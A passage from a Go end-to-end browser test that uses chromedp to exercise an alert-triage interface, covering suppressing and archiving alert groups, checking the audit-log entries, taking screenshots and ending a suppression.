	b.do(t, "suppress", chromedp.Click(`[data-group="2013028"] button[aria-label^="Suppress"]`))
	b.wait(t, "how many", `+document.querySelector("[data-testid=would-hide] dd")?.textContent > 50`)
	b.do(t, "why", chromedp.SendKeys("#f-reason", "our own updater"))
	b.shoot(t, "suppress-dark")
	b.do(t, "do it", chromedp.Click("dialog[open] footer .accent"))
	b.wait(t, "hidden", `document.querySelectorAll("[data-group]").length === 6`)
	b.do(t, "archive a group", chromedp.Click(`[data-group="2027757"] button[aria-label^="Archive"]`))
	b.wait(t, "archived", `document.querySelectorAll("[data-group]").length === 5`)
	b.do(t, "show all", chromedp.Click(`//button[span[text()="Inbox"]]`))
	b.wait(t, "nothing is lost", `document.querySelectorAll("[data-group]").length === 7 && location.search.includes("all=1")`)
	b.key(t, "7")
	b.wait(t, "written down", `document.querySelector("[data-suppression]")?.textContent.includes("our own updater") && document.querySelectorAll("[data-audit='alerts.triage']").length >= 3 && document.querySelector("[data-audit='suppression.add']").textContent.includes("ana")`)
	b.do(t, "look closer", chromedp.Click(`[data-audit="suppression.add"] summary`))
	b.shoot(t, "record-dark")
	b.do(t, "end it", chromedp.Click(`[data-suppression] button.tool`))
	b.wait(t, "ended", `!document.querySelector("[data-suppression]")`)
	b.noErrors(t)
}
